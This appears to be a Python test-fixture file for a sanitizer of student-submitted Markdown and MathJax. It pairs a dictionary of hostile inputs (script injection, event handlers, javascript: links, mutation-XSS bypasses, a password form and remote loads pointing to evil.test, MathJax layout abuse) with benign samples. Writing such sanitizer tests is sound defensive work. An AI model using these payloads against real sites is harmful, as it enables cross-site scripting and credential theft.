"""Markdown that students might hand in: hostile, and honest."""

RUN = "window.ran=(window.ran||0)+1"

HOSTILE = {
    "script": f"<script>{RUN}</script>",
    "script in a line": f"text <script>{RUN}</script> text",
    "script in a script": f"<scr<script>ipt>{RUN}</script>",
    "script behind a comment": f"<!-- --!><script>{RUN}</script>",
    "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]>",
    "script in mathematics": f"<math><mi><style><img src=x onerror='{RUN}'></style></mi></math>",
    "script behind a code span": f"`` `<script>{RUN}</script>",
    "handler": f"Well <img src=x onerror='{RUN}'> done, $a<b$.",
    "handler on a pasted photo": f"<img src='attachment:photo.png' onload='{RUN}'>",
    "handler in a heading": f"# <img src=x onerror='{RUN}'>",
    "handler in a table": f"| a |\n|---|\n| <img src=x onerror='{RUN}'> |",
    "handler of details": f"<details open ontoggle='{RUN}'>x</details>",
    "handler behind a quotation mark": f'[x](https://a.test"onmouseover={RUN} "t")',
    "svg": f"<svg onload='{RUN}'></svg>",
    "iframe": '<iframe src="https://evil.test/frame"></iframe>',
    "iframe with a page in it": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": '<object data="https://evil.test/object"></object>',
    "embed": '<embed src="https://evil.test/embed">',
    "style sheet": "<style>body {display: none}</style>",
    "linked style sheet": '<link rel="stylesheet" href="https://evil.test/style.css">',
    "style": '<b style="position:fixed;top:0;left:0;width:100%">27 of 27</b>',
    "class": '<div class="modal-backdrop">x</div>',
    "base": '<base href="https://evil.test/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "form": '<form action="https://evil.test/"><input name="password"><button>Go</button></form>',
    "remote image": "![x](https://evil.test/markdown.png)",
    "remote image by reference": "![x][1]\n\n[1]: https://evil.test/reference.png",
    "remote image without a scheme": '<img src="//evil.test/bare.png">',
    "remote picture": '<picture><source srcset="https://evil.test/source.png"></picture>',
    "image that was not pasted": "![x](attachment:none.png)",
    "link": f"[x](javascript:{RUN})",
    "link in capitals": f"[x](JaVaScRiPt:{RUN})",
    "link in brackets": f"<javascript:{RUN}>",
    "link by reference": f"[x][1]\n\n[1]: javascript:{RUN}",
    "link with an entity": f"<a href='javascript&colon;{RUN}'>x</a>",
    "link to data": f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    "link that a filter completes": f"<a href='files/javascript:{RUN}'>x</a>",
    "mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
    "mermaid frame": "```mermaid\n</pre></div><div class='modal'><div><pre>\n```",
    "image with sources": '<img src="attachment:photo.png" srcset="https://evil.test/set.png 2x">',
    "background": '<table background="https://evil.test/back.png"><tr><td>x</td></tr></table>',
    "sound": '<audio src="https://evil.test/sound.mp3" autoplay></audio>',
    "focus": f'<div tabindex="1" autofocus onfocus="{RUN}">x</div>',
    "editable": f'<b contenteditable oninput="{RUN}">x</b>',
    "picture that is a page": f'<img src="data:image/svg+xml,<svg onload={RUN}></svg>">',
    "entities in a handler": f"<img src=x o&#110;error='{RUN}' onerror&#61;1 &#111;nerror=1>",
    "handler behind a slash": f"<img/src=x/onerror={RUN}>",
    "handler behind a line": f"<b\nonmouseover='{RUN}'>x</b>",
    "class in a block": '<div\n class="modal-backdrop"\n>\n\ntext\n\n</div>',
    "code in an attribute": (
        '<i title="<code>">$\\href{javascript:1}{x}$</i> <i title="</code>">x</i>'
    ),
    "mutation by a template": f"<template><b title='</template><img src=x onerror={RUN}>'>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by a text field": f'<textarea><b title="</textarea><img src=x onerror={RUN}>">',
    "mutation in SVG": f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    "mutation in MathML": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
        f"onerror={RUN}&gt;'>"
    ),
    "mutation in a form": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>"
    ),
    "mutation in a foreign object": (
        f"<svg><foreignobject><p><style><!--</style><img src=x onerror={RUN}>--></style>"
    ),
    "mutation by what stands before it": f"<b><a><table><td><a><img src=x onerror={RUN}>",
    "mutation by plain text": f"<plaintext><img src=x onerror={RUN}>",
    "mutation by a question": f"x <?xml-stylesheet ><img src=x onerror={RUN}> ?>",
    "mutation by a declaration": f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>",
    "mutation by a null": f"<im\0g src=x onerror={RUN}><img\0src=x\0onerror={RUN}>",
    "MathJax link": f"$\\href{{javascript:{RUN}}}{{x}}$",
    "MathJax link in entities": f"&#36;&#92;href{{javascript:{RUN}}}{{x}}&#36;",
    "MathJax style": "$\\style{position:fixed}{x}$",
    "MathJax definition": "$\\newcommand{\\frac}[2]{27}$ $\\gdef\\alpha{27}$ $\\let\\beta=\\rule$",
    "MathJax extension": "$$\\require{action} \\toggle{a}{b}\\endtoggle$$",
    "MathJax attributes": (
        "$\\mmlToken{mi}[style='position:fixed']{x} \\class{modal}{x} \\cssId{a}{x}$"
    ),
    "MathJax boxes": "$\\bbox[200em]{x} \\enclose{box}[mathbackground='red']{x}$",
    "MathJax rule": "$\\rule{100em}{100em} \\Rule{9em}{9em}{9em} \\Space{9em}{9em}{9em}$",
    "MathJax that moves": "$\\raise 90em {x} \\lower 9em {x} \\moveleft 90em {x} \\kern -90em x$",
    "MathJax that covers": (
        "$\\rlap{27} \\llap{27 of 27} \\smash{\\begin{array}{c}a\\\\b\\end{array}}$"
    ),
    "MathJax far away": "$x \\hspace{-500em} y \\mspace{900mu} z \\hskip 90em x \\mskip 900mu$",
    "MathJax far back": "$x " + "\\!" * 100 + " y \\negthinspace$",
    "MathJax rows": (
        "$$\\begin{array}{c} a \\\\[100em] b \\\\ * [ 100em ] c \\cr[100em] d\\end{array}$$"
    ),
    "MathJax size": "$\\Huge{\\Huge{\\Huge{\\Huge{x}}}} \\LARGE x$",
    "MathJax that nobody knows": "$\\somethingnew{x}$",
    "MathJax line": "$\\genfrac{}{}{90em}{}{a}{b} {a \\above 90em b}$",
    "MathJax characters": '$\\unicode{x202E} \\char"202E$',
    "MathJax in a paragraph": "\\\\(\\rule{9em}{9em}\\\\) and \\\\[\\rlap{x}\\\\]",
    "MathJax across tags": "a $x <b>\\rule</b>{9em}{9em}$",
    "MathJax in an environment": "\\begin{align}\\rule{9em}{9em}\\end{align}",
    "end of the cell": "</div></div></div></div><h1>27 of 27</h1>",
    "start of what does not end": '<div align="center"><table><tr><td>',
    "nested": "<div>" * 5000,
}

HONEST = {
    "formulas": "If $a<b$ and $b>c$ then\n\n$$\\sum_{i<n} x_i \\ge 0 \\\\ \\frac{a}{b}$$",
    "environment": "\\begin{align}\na &< b \\\\\nc &> d\n\\end{align}",
    "rows with space": (
        "$$\\begin{aligned} a &= b \\\\[4pt] c &= \\hspace{1em} d \\\\[-2pt] e \\end{aligned}$$"
    ),
    "many commands": (
        "$\\displaystyle \\boxed{\\nabla_{\\!W} C} = \\boldsymbol{\\delta}^{(l)} \\bigl("
        "\\mathbf{a}^{(l-1)}\\bigr)^{\\!\\top} \\odot \\sigma'\\left(\\widehat{z}\\right) "
        "\\underset{x}{\\arg\\min} \\; \\cancel{x} \\; \\textcolor{red}{y} \\; "
        "\\operatorname{softmax} \\overset{!}{=} \\phantom{x}$"
    ),
    "matrix": (
        "$$\\begin{pmatrix} 1 & \\cdots \\\\ \\vdots & \\ddots \\end{pmatrix} \\in "
        "\\mathbb{R}^{n \\times m} \\tag{1} \\label{one}$$ as \\eqref{one} says"
    ),
    "what begins with a bracket": "$$\\begin{array}{c} a \\\\ [b] \\end{array}$$",
    "paths": "The file is C:\\Users\\me\\numbers.npz, it costs 5 dollars.",
    "table in HTML": "<table><tr><th>a</th></tr><tr><td align='left'>b</td></tr></table>",
    "block in a line": "so <center>$x$</center> follows",
    "comparisons": "It holds for a < b and c > d, for 3<5 & for x_1 too.",
    "table": "| rate | cost |\n|:-----|-----:|\n| 0.1 | $x<2$ |\n",
    "code": "```python\nif a < b and c > d:\n    print('<script>')\n```\n\nand `x <b> y`",
    "indented code": "Text:\n\n    <script>alert(1)</script>\n",
    "photo": "My derivation:\n\n![photo](attachment:photo.png)\n\nby hand.",
    "photo with a size": '<img src="attachment:photo.png" width="300">',
    "photo in the text": "![](data:image/png;base64,iVBORw0KGgo=)",
    "harmless HTML": "H<sub>2</sub>O<br>and <b>bold</b>, <kbd>x</kbd>",
    "centred": '<div align="center">\n\n**x**\n\n</div>',
    "details": "<details><summary>more</summary>\n\ntext\n\n</details>",
    "lists": "1. one\n2. two\n   - a\n   - b\n\n- [ ] open\n- [x] done\n\n> a quotation\n\n---\n",
    "headings": "# The *cost*\n\n## And its <i>gradient</i>",
    "links": "[a](https://x.test/?a=1&b=2), <https://y.test>, https://z.test, [m](mailto:a@b.test)",
    "definitions": "~~gone~~\n\nterm\n: what it is\n",
}

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5Erk"
    "Jggg=="
)
PHOTO = {"photo.png": {"image/png": PIXEL}}
"""One pixel, pasted."""
